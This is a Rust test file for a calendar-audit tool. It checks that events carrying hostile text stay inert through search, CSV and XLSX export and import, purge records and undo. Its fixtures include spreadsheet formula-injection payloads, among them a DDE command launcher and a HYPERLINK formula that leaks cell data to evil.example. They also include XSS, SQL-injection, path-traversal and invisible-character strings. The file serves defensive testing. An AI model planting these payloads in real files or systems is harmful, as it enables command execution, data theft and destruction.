//! Events that say what nobody would say to a calendar: formulas, markup, marks that turn or hide text, and more of it
//! than fits. They are found, shown, written into spreadsheets and read from them, purged, proved and brought back like
//! all others, and never become anything but text.

use super::{Journey, Litter, PROVIDERS, littered, shown};
use crate::installation::{Installation, name_of, record};
use crate::proxy::Proxy;
use calamine::{Data, Reader as _, Xlsx, open_workbook};
use rust_xlsxwriter::Workbook;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use std::path::Path;
use truedocket_engine::api::audit::{AuditImported, PurgeRecordFiles};
use truedocket_sandbox::office::Provider;
use truedocket_sandbox::world::Exception;
use truedocket_sandbox::{Vendor, World};

/// Words to begin with; a number behind them tells them apart.
const TEXTS: [&str; 30] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "＝1+1",
    "\u{200f}=1+1",
    "\u{a0}=1+1",
    "'=1+1",
    "\"=1+1\"",
    "a;=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt; &amp;#x27; &nbsp;",
    "]]><!-- -->",
    "{{7*7}} ${7*7} %s%n %00",
    "'); DROP TABLE audit_row; --",
    "100%_of*it?",
    "../../etc/passwd",
    "\u{202e}desrever\u{202c} \u{2066}isolated\u{2069}",
    "\u{200b}zero\u{200d}width\u{feff}",
    "👩‍👩‍👧‍👦🏳️‍🌈 🦀",
    "\u{fffd}\u{fffd}",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}",
    "مرحبا שלום 你好",
    "\u{1}\u{7}\u{1b}[31mred\u{7f}\u{85}\u{2028}\u{2029}",
];
/// Who called the first of them; the copy is its guest's to delete.
const ORGANIZERS: [&str; 3] = ["=1+1@evil.example", "+1@evil.example", "-1@evil.example"];
/// More than any field was made for.
const LONG: usize = 10_000;
/// Titles that say nothing; what hostile words these events have stands in their notes.
const BLANK: [&str; 5] = ["", "\u{200b}\u{feff}", "\u{202e}", "\u{fffd}", " \t\u{a0}"];

fn texts() -> Vec<String> {
    let long = "=Ω".repeat(LONG / 2);
    let all = TEXTS.into_iter().map(str::to_owned).chain([long]);
    all.enumerate().map(|(number, text)| format!("{text} no. {number}")).collect()
}

fn litter() -> Litter {
    Litter { days: BLANK.len(), series: texts().len() }
}

/// Series that nobody touches say hostile words everywhere, their changed days too; blank days say them in their notes.
fn hostile(provider: Provider) -> World {
    let mut world = littered(provider, litter());
    for (number, text) in texts().into_iter().enumerate() {
        let mut all = world.events.values_mut();
        let event = all.find(|event| event.id == format!("aaaser{number:05}")).expect("litter");
        if let Some(organizer) = ORGANIZERS.get(number) {
            event.organizer = (*organizer).to_owned();
        }
        // Markup, which Graph keeps bodies in, has no carriage returns (HTML, 13.2.3.5).
        let body = text.replace('\r', "");
        (event.title, event.body, event.place) = (text.clone(), body.clone(), text.clone());
        for day in event.exceptions.values_mut() {
            if let Exception::Changed(day) = day {
                (day.title, day.body, day.place) = (format!("{text}, moved"), body.clone(), text.clone());
            }
        }
    }
    for (number, title) in BLANK.into_iter().enumerate() {
        let mut all = world.events.values_mut();
        let event = all.find(|event| event.id == format!("aaaday{number:05}")).expect("litter");
        (event.title, event.body) = (title.to_owned(), TEXTS[number * 5].to_owned());
    }
    world
}

/// All that is shown: the grid finds them by their words and repeats them as they are, and so do the reasons.
async fn is_shown(journey: &Journey, provider: Provider) {
    for (number, text) in texts().into_iter().enumerate() {
        let asked = json!({ "kinds": ["endless_series"], "text": text });
        let items = journey.items(asked).await;
        assert_eq!(items.total, 1, "{provider:?}: {text:.40?} is found by its own words");
        let row = &items.rows[0];
        if let Some(organizer) = ORGANIZERS.get(number) {
            assert_eq!(row.organizer, *organizer, "{provider:?}: and whoever called it is named");
        }
        assert_eq!(row.title, text, "{provider:?}: the grid shows what stands there");
        let asked = json!({ "run": journey.run, "item": row.item });
        let why = journey.installation.ask("audit.why", asked).await.expect("it is known");
        assert_eq!(why["events"][0]["title"], text, "{provider:?}: and so do the reasons");
    }
    let blank = journey.items(json!({ "kinds": ["undefined_all_day"] })).await;
    assert_eq!(blank.total as usize, BLANK.len(), "{provider:?}: what says nothing says nothing");
}

async fn exported(journey: &Journey, format: &str) -> String {
    let asked = json!({ "run": journey.run, "format": format });
    let written = journey.installation.ask("audit.export", asked).await.expect("it can be written");
    written["path"].as_str().expect("a path").to_owned()
}

async fn imported(journey: &Journey, path: &Path) -> AuditImported {
    let asked = json!({ "run": journey.run, "path": path.display().to_string() });
    let taken = journey.installation.ask("audit.import", asked).await.expect("it is ours");
    serde_json::from_value(taken).expect("what came of it")
}

/// Nobody's program would calculate this cell.
fn is_text(cell: &str) -> bool {
    let unseen = |c: char| {
        c.is_whitespace() || matches!(c, '"' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{feff}')
    };
    let first = cell.chars().find(|c| !unseen(*c));
    !matches!(first, Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠'))
}

/// The letters that survive whatever a cell cannot hold.
fn gist(text: &str) -> String {
    text.chars().filter(|c| c.is_alphanumeric()).collect()
}

/// Out as .csv, every row set to Delete, and back in.
async fn through_csv(journey: &Journey) -> AuditImported {
    let path = exported(journey, "csv").await;
    let bytes = std::fs::read(&path).expect("the file is there");
    let mut table = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.as_slice());
    let mut rows: Vec<Vec<String>> =
        table.records().map(|row| row.expect("a row").iter().map(str::to_owned).collect()).collect();
    let cells = rows.iter().flatten();
    let bad: Vec<&String> = cells.filter(|cell| !is_text(cell)).collect();
    assert!(bad.is_empty(), "no cell begins like a formula: {bad:?}");
    for text in texts() {
        let there = rows.iter().any(|row| gist(&row[2]) == gist(&text));
        assert!(there, "{text:.40?} stands in its row");
    }
    rows.iter_mut().skip(1).for_each(|row| row[0] = "Delete".to_owned());
    let back = Path::new(&path).with_file_name("decided.csv");
    let mut file = csv::Writer::from_path(&back).expect("room on the disk");
    rows.iter().for_each(|row| file.write_record(row).expect("room on the disk"));
    file.flush().expect("room on the disk");
    imported(journey, &back).await
}

/// Out as .xlsx, every row set to Delete by another program, and back in.
async fn through_xlsx(journey: &Journey) -> AuditImported {
    let path = exported(journey, "xlsx").await;
    let mut book: Xlsx<_> = open_workbook(&path).expect("it is a workbook");
    let (mut copy, mut titles) = (Workbook::new(), Vec::new());
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("a sheet");
        assert!(formulas.used_cells().next().is_none(), "{name}: nothing in it is calculated");
        let cells = book.worksheet_range(&name).expect("a sheet");
        let is_review = cells.get((0, 0)).is_some_and(|cell| *cell == "Decision");
        let sheet = copy.add_worksheet().set_name(&name).expect("a name");
        for (row, column, cell) in cells.used_cells() {
            let at = (u32::try_from(row).expect("few"), u16::try_from(column).expect("few"));
            let text = cell.to_string();
            if is_review && column == 2 {
                assert!(matches!(cell, Data::String(_)), "{name}: a title is text: {cell:?}");
                titles.push(gist(&text));
            }
            sheet.write_string(at.0, at.1, &text).expect("it fits");
        }
        if is_review {
            for row in 1..cells.height() {
                sheet.write_string(u32::try_from(row).expect("few"), 0, "Delete").expect("it fits");
            }
        }
    }
    for text in texts() {
        assert!(titles.contains(&gist(&text)), "{text:.40?} stands in its row");
    }
    let back = Path::new(&path).with_file_name("decided.xlsx");
    copy.save(&back).expect("room on the disk");
    imported(journey, &back).await
}

/// JSON and PDF are there, the hash is the file's, and the ledger names it.
async fn is_proved(journey: &Journey, purge: &str) {
    let files =
        journey.installation.ask("audit.record", json!({ "purge": purge })).await.expect("it can be written");
    let files: PurgeRecordFiles = serde_json::from_value(files).expect("files");
    let bytes = std::fs::read(&files.json).expect("the JSON is there");
    assert_eq!(hex::encode(Sha256::digest(&bytes)), files.sha256, "the hash is the file's");
    let record: Value = serde_json::from_slice(&bytes).expect("it is JSON");
    let done = record["done"].as_array().expect("what was done");
    for text in texts() {
        let there = done.iter().any(|line| line["title"].as_str() == Some(text.as_str()));
        assert!(there, "{text:.40?} is in the record, word by word");
    }
    let pdf = std::fs::read(&files.pdf).expect("the PDF is there");
    assert!(pdf.starts_with(b"%PDF-") && pdf.len() > 2_000, "beside it");
    let ledger = journey.installation.engine.export_ledger().await.expect("the ledger can be read");
    let ledger = String::from_utf8(ledger).expect("it is text");
    assert!(ledger.contains(&files.sha256), "the ledger names the hash");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f24_hostile_words_stay_words_all_the_way_and_back() {
    for provider in PROVIDERS {
        let journey = Journey::begun(Installation::with(hostile(provider), provider, 20).await).await;
        let before = shown(&journey.installation.sandbox.shared.world());
        assert_eq!(journey.state().await.unreadable, 0, "{provider:?}: strange is not unreadable");
        is_shown(&journey, provider).await;
        let rows = journey.items(json!({})).await.total as u64;
        let by_text = through_csv(&journey).await;
        assert_eq!(
            (by_text.rows, by_text.applied),
            (rows, rows),
            "{provider:?}: .csv: {:?}",
            by_text.refused
        );
        let undone = json!({ "run": journey.run });
        journey.installation.ask("audit.undo_decision", undone).await.expect("one undo takes the file back");
        assert_eq!(journey.state().await.decided.open, rows, "{provider:?}: nothing is decided again");
        let by_book = through_xlsx(&journey).await;
        assert_eq!(
            (by_book.rows, by_book.applied),
            (rows, rows),
            "{provider:?}: .xlsx: {:?}",
            by_book.refused
        );
        let preview = journey.prepare().await.expect("it can be backed up");
        assert!(
            preview.count >= 36,
            "{provider:?}: all of it goes: {} held {:?}",
            preview.count,
            preview.held
        );
        journey.approve(&preview).await.expect("what was shown was typed");
        let purge = journey.waited().await.purge.expect("there is a purge");
        assert_eq!(purge.done, preview.count, "{provider:?}: all is done: {:?}", purge.lines);
        is_proved(&journey, &purge.purge).await;
        let undone = journey.undone(&purge.purge).await;
        assert_eq!(undone.undone, preview.count, "f24: {provider:?}: each comes back: {:?}", undone.lines);
        let after = shown(&journey.installation.sandbox.shared.world());
        let missing: Vec<_> = before.iter().filter(|row| !after.contains(row)).take(2).collect();
        let strange: Vec<_> = after.iter().filter(|row| !before.contains(row)).take(2).collect();
        assert!(after == before, "f24: {provider:?}: missing {missing:#?}, strange {strange:#?}");
        journey.nobody_was_mailed("hostile words");
    }
}

/// A word of the world that leaves as half of a surrogate pair, which is no character (RFC 8259, 8.2).
const HALF: &str = "HALFAPAIR";

async fn behind_a_door(world: World, provider: Provider) -> (Proxy, Installation) {
    let installation = Installation::bare(world, 50).await;
    let proxy = Proxy::before(&installation.sandbox.base).await;
    for vendor in [record(provider), Vendor::Clio] {
        installation
            .connect_at(vendor, name_of(vendor), &proxy.base)
            .await
            .expect("the pretend person consents");
    }
    installation.import_staff().await;
    (proxy, installation)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f22_half_a_character_costs_its_event_and_no_other() {
    for provider in PROVIDERS {
        let mut world = littered(provider, Litter { days: 12, series: 2 });
        let mut days = world.events.values_mut().filter(|event| event.id.starts_with("aaaday"));
        days.next().expect("litter").title = format!("tbd {HALF}");
        days.next().expect("litter").body = format!("Notes {HALF}");
        let (proxy, installation) = behind_a_door(world, provider).await;
        proxy.rename(HALF, "\\ud83d");
        let journey = Journey::begun(installation).await;
        let state = journey.state().await;
        assert_eq!(state.unreadable, 2, "f22: {provider:?}: both are counted");
        let days =
            state.kinds.iter().find(|kind| kind.kind.name() == "undefined_all_day").expect("all eleven");
        assert_eq!(days.items, 10, "f22: {provider:?}: the others are looked at");
        let purge = journey.purged().await;
        assert_eq!(purge.done, 12, "f22: {provider:?}: and can go: {:?}", purge.lines);
        let world = shown(&journey.installation.sandbox.shared.world());
        assert_eq!(
            world.iter().filter(|row| row.contains(HALF)).count(),
            2,
            "f22: {provider:?}: what cannot be read stays"
        );
        journey.undone(&purge.purge).await;
        journey.nobody_was_mailed("half a character");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f22_what_can_no_longer_be_read_at_the_purge_stays() {
    for provider in PROVIDERS {
        let mut world = littered(provider, Litter { days: 12, series: 2 });
        let mut days = world.events.values_mut().filter(|event| event.id.starts_with("aaaday"));
        // Times stand in every form of the event.
        days.next().expect("litter").uid = format!("{HALF}@litter.example");
        let (proxy, installation) = behind_a_door(world, provider).await;
        let journey = Journey::begun(installation).await;
        journey.decide(json!({}), "accept").await;
        let preview = journey.prepare().await.expect("it can be backed up");
        let before = shown(&journey.installation.sandbox.shared.world());
        proxy.rename(HALF, "\\ud83d");
        journey.approve(&preview).await.expect("what was shown was typed");
        let purge = journey.waited().await.purge.expect("there is a purge");
        assert_eq!(
            purge.done,
            preview.count - 1,
            "f22: {provider:?}: all others are done: {:?}",
            purge.lines
        );
        let told = purge.lines.iter().find(|line| line.state.name() != "done");
        let told = told.unwrap_or_else(|| panic!("f22: {provider:?}: it is told: {:?}", purge.lines));
        assert!(!told.why.is_empty(), "f22: {provider:?}: with the reason");
        assert_eq!((purge.waiting, purge.state.name()), (1, "paused"), "f22: {provider:?}: it waits");
        let after = shown(&journey.installation.sandbox.shared.world());
        assert_eq!(after.len(), before.len() - 11, "f22: {provider:?}: and it stays");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f24_a_series_with_a_day_that_cannot_be_read_is_held() {
    for provider in PROVIDERS {
        let mut world = littered(provider, Litter { days: 4, series: 2 });
        let mut series = world.events.values_mut().filter(|event| event.id.starts_with("aaaser"));
        for day in series.next().expect("litter").exceptions.values_mut() {
            if let Exception::Changed(day) = day {
                day.title = format!("Moved {HALF}");
            }
        }
        let (proxy, installation) = behind_a_door(world, provider).await;
        proxy.rename(HALF, "\\ud83d");
        let journey = Journey::begun(installation).await;
        let before = shown(&journey.installation.sandbox.shared.world());
        journey.decide(json!({}), "delete").await;
        let preview = journey.prepare().await.expect("the rest can be backed up");
        assert_eq!(
            preview.held.len(),
            1,
            "f24: {provider:?}: what cannot be kept whole is held: {preview:?}"
        );
        assert!(!preview.held[0].why.is_empty(), "f24: {provider:?}: and says why");
        assert_eq!(preview.count, 5, "f24: {provider:?}: the others go");
        journey.approve(&preview).await.expect("what was shown was typed");
        journey.waited().await;
        let after = shown(&journey.installation.sandbox.shared.world());
        let there = after.iter().filter(|row| row.contains(HALF)).count();
        assert_eq!((there, after.len()), (1, before.len() - 5), "f24: {provider:?}: the held one is whole");
    }
}
